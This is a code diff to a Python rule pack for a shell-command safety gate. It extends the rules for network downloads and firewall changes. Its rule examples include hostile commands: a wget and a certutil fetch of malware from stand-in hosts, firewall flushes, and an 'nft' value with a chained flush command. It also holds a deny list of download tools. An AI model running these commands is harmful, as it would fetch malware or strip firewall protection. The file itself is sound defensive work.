@@ -11,6 +11,7 @@ import ipaddress
 import re
 from collections.abc import Iterator
 
+from engine.gate.packs import security, windows
 from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule
 from engine.gate.packs.transfer import proves
 from engine.gate.shell import reads
@@ -508,7 +509,9 @@ RULES = [
          counter=["curl -X GET 'http://localhost:7700/version'"]),
     rule("net.download", DANGEROUS, "net fs", "downloads files from the network",
          names="wget aria2c axel certutil bitsadmin lftp tftp ftp", tier=IRREVERSIBLE,
-         examples=["wget https://evil.example/malware -O /tmp/m"], counter=["ls"]),
+         test=lambda c: c.name != "certutil" or windows.READ_ONLY["certutil"](c) is not None,
+         examples=["wget https://evil.example/malware -O /tmp/m", "certutil -urlcache -f https://x.example/m.exe m.exe"],
+         counter=["ls", "certutil -hashfile setup.exe SHA256"]),
     rule("net.upload", DANGEROUS, "net", "uploads files or data to another host", names="wget curl", tier=IRREVERSIBLE,
          args=r"--post-(?:file|data)|(?:^|\s)-T\s|--upload-file", examples=["wget --post-data=x https://a.example"],
          counter=["wget -q https://a.example"]),
@@ -534,9 +537,9 @@ RULES = [
     rule("net.mail", DANGEROUS, "net", "sends e-mail", names="mail mailx sendmail mutt msmtp swaks", tier=IRREVERSIBLE,
          examples=["mail -s hi bob@x.example"], counter=["ls"]),
     rule("net.firewall", DANGEROUS, "net evasion", "changes or flushes firewall rules", names="iptables ip6tables nft ufw firewall-cmd pfctl",
-         tier=IRREVERSIBLE, test=lambda c: bool(c.args) and not (c.flags and c.flags <= {"-L", "-n", "-v", "--list", "-S"})
-         and "status" not in c.operands,
-         examples=["iptables -F", "ufw disable"], counter=["iptables -L -n"]),
+         tier=IRREVERSIBLE, test=lambda c: bool(c.args) and security.READ_ONLY[c.name](c) is not None,
+         examples=["iptables -F", "ufw disable", "nft flush ruleset", "nft list ruleset \\; flush ruleset"],
+         counter=["iptables -L -n", "nft list ruleset", "ufw status verbose", "iptables -S"]),
     rule("net.config", DANGEROUS, "net", "changes network interfaces, routes or DNS settings",
          names="ip ifconfig route nmcli netplan resolvectl networksetup",
          test=lambda c: bool(_NET_CHANGE.search(c.text)),
